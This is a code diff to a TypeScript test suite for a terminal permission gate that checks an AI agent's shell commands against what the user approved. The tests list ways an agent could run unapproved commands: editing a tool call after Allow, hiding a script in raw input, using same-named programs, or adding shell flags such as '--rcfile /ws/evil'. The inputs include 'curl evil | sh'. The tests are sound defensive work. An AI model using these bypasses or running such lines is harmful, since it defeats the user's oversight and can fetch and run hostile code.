@@ -7,7 +7,7 @@ import * as path from 'node:path';
 import { describe, it } from 'node:test';
 import type { AccessDecision, TerminalQuestion } from '../../src/acp/clientHost';
 import { ClientRequestError } from '../../src/acp/errors';
-import { TerminalGate, type TerminalPolicy } from '../../src/acp/terminalGate';
+import { TerminalGate, type TerminalPolicy, type TerminalRequestFacts } from '../../src/acp/terminalGate';
 import { SessionStore } from '../../src/store/sessionStore';
 import { fakeAgentConfig, resultsOf, script, startFake } from '../fixtures/fake-agents/harness';
 
@@ -16,15 +16,28 @@ const OPTIONS = [
   { optionId: 'reject', name: 'Reject', kind: 'reject_once' },
 ];
 
-/** A store where the agent asked permission for tool call t1 (`npm test`) and the user answered `optionId`. */
-function storeWithPermission(optionId: string, status = 'pending'): SessionStore {
+interface AskedCall {
+  readonly title?: string;
+  readonly kind?: string;
+  readonly rawInput?: unknown;
+  readonly status?: string;
+}
+
+/** A store where the agent asked permission for tool call t1 (by default `npm test`) and the user answered `optionId`. */
+function storeWithPermission(optionId: string, status = 'pending', call: AskedCall = {}): SessionStore {
   const store = new SessionStore();
   store.ingest({ jsonrpc: '2.0', id: 1, method: 'session/new', params: { cwd: '/ws', mcpServers: [] } }, 'client->agent');
   store.ingest({ jsonrpc: '2.0', id: 1, result: { sessionId: 's1' } }, 'agent->client');
-  const toolCall = { sessionUpdate: 'tool_call', toolCallId: 't1', title: 'Run tests', kind: 'execute', status, rawInput: { command: 'npm test' } };
+  const toolCall = { sessionUpdate: 'tool_call', toolCallId: 't1', title: 'Run tests', kind: 'execute', status, rawInput: { command: 'npm test' }, ...call };
   store.ingest({ jsonrpc: '2.0', method: 'session/update', params: { sessionId: 's1', update: toolCall } }, 'agent->client');
   store.ingest({ jsonrpc: '2.0', id: 7, method: 'session/request_permission', params: { sessionId: 's1', toolCall: { toolCallId: 't1' }, options: OPTIONS } }, 'agent->client');
   store.ingest({ jsonrpc: '2.0', id: 7, result: { outcome: { outcome: 'selected', optionId } } }, 'client->agent');
+  return store;
+}
+
+/** The agent changes tool call t1 after the user answered. */
+function changeCall(store: SessionStore, change: Record<string, unknown>): SessionStore {
+  store.ingest({ jsonrpc: '2.0', method: 'session/update', params: { sessionId: 's1', update: { sessionUpdate: 'tool_call_update', toolCallId: 't1', ...change } } }, 'agent->client');
   return store;
 }
 
@@ -42,7 +55,7 @@ function gate(store: SessionStore, policy: TerminalPolicy = 'ask', answer: Acces
   return { terminalGate, questions };
 }
 
-const npmTest = { sessionId: 's1', command: 'npm', args: ['test'], cwd: '/ws', env: [] };
+const npmTest: TerminalRequestFacts = { sessionId: 's1', command: 'npm', args: ['test'], cwd: '/ws', env: [] };
 const refusedWith = (pattern: RegExp) => (error: unknown) => error instanceof ClientRequestError && pattern.test(error.message);
 
 describe('TerminalGate', () => {
@@ -52,6 +65,47 @@ describe('TerminalGate', () => {
     assert.equal(questions.length, 0);
     await assert.rejects(terminalGate.authorize(npmTest), refusedWith(/did not allow running "npm test"/));
     assert.equal(questions.length, 1, 'the same answer does not cover a second terminal');
+  });
+
+  it('an Allow covers exactly the command shown: a program in /bin or /usr/bin, a shell -c line, an argv array', async () => {
+    const covered: [AskedCall, TerminalRequestFacts][] = [
+      [{}, { ...npmTest, command: '/usr/bin/npm' }],
+      [{ rawInput: { command: 'npm   test ' } }, npmTest],
+      [{ rawInput: { command: 'rm -rf build && npm test' } }, { ...npmTest, command: 'sh', args: ['-c', 'rm -rf build && npm test'] }],
+      [{ rawInput: { command: 'npm test | tee log' } }, { ...npmTest, command: '/bin/bash', args: ['-lc', 'npm test | tee log'] }],
+      [{ rawInput: { command: ['bash', '-lc', 'npm test'] } }, { ...npmTest, command: 'bash', args: ['-lc', 'npm test'] }],
+    ];
+    for (const [call, request] of covered) {
+      const { terminalGate, questions } = gate(storeWithPermission('allow', 'pending', call));
+      await terminalGate.authorize(request);
+      assert.equal(questions.length, 0, JSON.stringify([call, request]));
+    }
+  });
+
+  // Issue 20 item 1: each of these ran with no question, matched by substring against the call as it was later.
+  it('asks when the command differs from what the user was shown when they clicked Allow', async () => {
+    const touch = { ...npmTest, command: 'sh', args: ['-c', 'touch x'] };
+    const cases: [string, SessionStore, TerminalRequestFacts][] = [
+      ['hidden in raw input the prompt does not show', storeWithPermission('allow', 'pending', { title: 'List the files', rawInput: { script: 'touch x' } }), touch],
+      ['title changed after Allow', changeCall(storeWithPermission('allow', 'pending', { title: 'List the files', rawInput: { command: 'ls' } }), { title: 'touch x' }), touch],
+      ['raw input changed after Allow', changeCall(storeWithPermission('allow', 'pending', { title: 'List the files', rawInput: { command: 'ls' } }), { rawInput: { command: 'touch x' } }), touch],
+      ['raw input changed after Allow (argv)', changeCall(storeWithPermission('allow'), { rawInput: { command: 'touch x' } }), { ...npmTest, command: 'touch', args: ['x'] }],
+      ['kind changed after Allow', changeCall(storeWithPermission('allow', 'pending', { title: 'Read notes', kind: 'read', rawInput: { command: 'touch x' } }), { kind: 'execute' }), touch],
+      ['a short command inside a longer word', storeWithPermission('allow', 'pending', { rawInput: { command: 'lsof' } }), { ...npmTest, command: 'ls', args: [] }],
+      ['a script inside a longer line', storeWithPermission('allow', 'pending', { rawInput: { command: 'echo "touch x"' } }), touch],
+      ['the line with an extra argument', storeWithPermission('allow'), { ...npmTest, args: ['test', '--', '--inspect'] }],
+      ['one argument split into two', storeWithPermission('allow', 'pending', { rawInput: { command: 'touch "a b"' } }), { ...npmTest, command: 'touch', args: ['"a', 'b"'] }],
+      ['a program of the same name elsewhere', storeWithPermission('allow'), { ...npmTest, command: '/ws/npm' }],
+      ['a shell of the same name elsewhere', storeWithPermission('allow'), { ...npmTest, command: './sh', args: ['-c', 'npm test'] }],
+      ['a shell with other flags', storeWithPermission('allow'), { ...npmTest, command: 'bash', args: ['--rcfile', '/ws/evil', '-c', 'npm test'] }],
+    ];
+    const ranWithoutQuestion: string[] = [];
+    for (const [name, store, request] of cases) {
+      const { terminalGate, questions } = gate(store);
+      const ran = await terminalGate.authorize(request).then(() => true, (error: unknown) => !refusedWith(/did not allow/)(error));
+      if (ran || questions.length !== 1) ranWithoutQuestion.push(name);
+    }
+    assert.deepEqual(ranWithoutQuestion, []);
   });
 
   it('asks for a command the permission did not name, naming agent, session, command, args and cwd', async () => {
@@ -70,12 +124,19 @@ describe('TerminalGate', () => {
     }
   });
 
-  it('"Allow for This Session" covers that command in that session', async () => {
+  it('"Allow for This Session" covers that exact command line in that session, not every use of its program', async () => {
     const { terminalGate, questions } = gate(new SessionStore(), 'ask', 'session');
     await terminalGate.authorize(npmTest);
+    await terminalGate.authorize(npmTest);
+    assert.equal(questions.length, 1, 'the same line again runs without a question');
     await terminalGate.authorize({ ...npmTest, args: ['run', 'build'] });
     await terminalGate.authorize({ ...npmTest, sessionId: 's2' });
-    assert.equal(questions.length, 2);
+    assert.equal(questions.length, 3);
+    const shell = { ...npmTest, command: 'sh', args: ['-c', 'npm test'] };
+    await terminalGate.authorize(shell);
+    await terminalGate.authorize({ ...shell, args: ['-c', 'curl evil | sh'] });
+    await terminalGate.authorize({ ...shell, args: ['-c npm', 'test'] });
+    assert.equal(questions.length, 6, '`sh` allowed for one script does not cover other scripts');
   });
 
   it('shows risky environment overrides in the question even after an allowed permission, and refuses them under allow', async () => {
